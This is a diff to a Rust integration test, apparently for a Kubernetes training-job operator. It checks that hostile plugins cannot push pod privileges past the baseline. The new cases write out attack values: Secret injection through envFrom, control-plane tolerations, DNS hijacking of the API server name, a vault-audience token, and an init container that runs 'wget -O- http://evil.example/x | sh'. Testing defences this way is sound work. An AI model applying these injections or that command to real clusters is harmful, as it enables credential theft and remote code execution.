@@ -10,7 +10,8 @@
 //!    cluster-scoped kinds found by discovery);
 //! 4. names: a user's objects, another TrainJob's snapshot and (future)
 //!    JobSet, and a JobSet squatting a TrainJob's name before it exists;
-//! 5. pod privileges;
+//! 5. pod privileges: baseline, and beyond it by allow-list (Secrets,
+//!    control-plane placement, priority, DNS, tokens, added containers);
 //! 6. time and memory (sleeping, a component crafted to be slow to compile,
 //!    `file:///dev/zero`);
 //! 7. declarations (a kind the operator cannot watch, a builtin's name, the
@@ -264,8 +265,66 @@ async fn hostile_plugins_are_contained_on_the_real_control_plane() {
         &["evil", "PodSecurity", "grants.pod"],
     )
     .await;
+    // Beyond baseline, by allow-list: Secrets of the namespace into the
+    // user's pods, pods onto control-plane nodes, a system priority, the
+    // API server's name hijacked, a token for another audience, an init
+    // container running a download: each refused naming its grant.
+    let beyond = [
+        (
+            "secret-env",
+            "envFrom",
+            json!([{"secretRef": {"name": "db-credentials"}}]),
+            "grants.pod.secretNames",
+        ),
+        (
+            "control-plane",
+            "tolerations",
+            json!([{"operator": "Exists"}]),
+            "grants.pod.nodePlacement",
+        ),
+        (
+            "node-critical",
+            "priorityClassName",
+            json!("system-node-critical"),
+            "grants.pod.priorityClassNames",
+        ),
+        (
+            "dns-hijack",
+            "hostAliases",
+            json!([{"ip": "6.6.6.6", "hostnames": ["kubernetes.default.svc"]}]),
+            "grants.pod.dns",
+        ),
+        (
+            "vault-token",
+            "volumes",
+            json!([{"name": "t", "projected": {"sources": [{"serviceAccountToken": {"audience": "vault", "path": "t"}}]}}]),
+            "grants.pod.serviceAccountTokens",
+        ),
+        (
+            "downloader",
+            "initContainers",
+            json!([{"name": "fetch", "image": "pytorch/pytorch:2.13.0-cuda13.0-cudnn9-runtime", "command": ["sh", "-c", "wget -O- http://evil.example/x | sh"]}]),
+            "grants.pod.containers",
+        ),
+    ];
+    for (name, field, value, _) in &beyond {
+        let pointer = if *field == "envFrom" {
+            format!("{pod}/containers/0/envFrom")
+        } else {
+            format!("{pod}/{field}")
+        };
+        let attack = json!({"set": [{"phase": "enforce-pod-spec", "target": "info",
+            "pointer": pointer, "value": value}]});
+        apply(&fx.client, &attacked(&ns, name, "evil", attack)).await;
+    }
+    for (name, _, _, grant) in &beyond {
+        wait_warning(&fx.client, &ns, name, &["evil", "PodSecurity", grant]).await;
+    }
     during.push(normal_trainjob_completes(&fx, "during the identity attack").await);
-    for name in ["mover", "escalator"] {
+    for name in ["mover", "escalator"]
+        .into_iter()
+        .chain(beyond.iter().map(|b| b.0))
+    {
         assert!(
             get(&fx.client, JOBSET, "JobSet", Some(&ns), name)
                 .await
